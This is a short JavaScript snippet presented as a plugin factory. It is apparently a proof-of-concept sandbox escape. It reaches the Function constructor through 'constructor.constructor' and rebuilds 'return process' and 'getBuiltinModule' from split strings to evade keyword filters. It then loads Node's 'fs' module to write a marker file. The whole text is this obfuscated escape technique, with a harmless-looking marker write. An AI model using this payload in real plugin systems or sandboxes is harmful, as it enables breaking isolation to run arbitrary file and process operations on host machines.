// Makes a function of a text by the constructor of a constructor, through names.
exports.createPlugin = (server) => {
  var { constructor: C } = server;
  let F;
  F = C.constructor;
  const p = F(['return pro', 'cess'].join('').concat(server.none || ''))();
  p[['getBuiltin', 'Module'].join('')]('fs').writeFileSync('@MARK@', '');
};
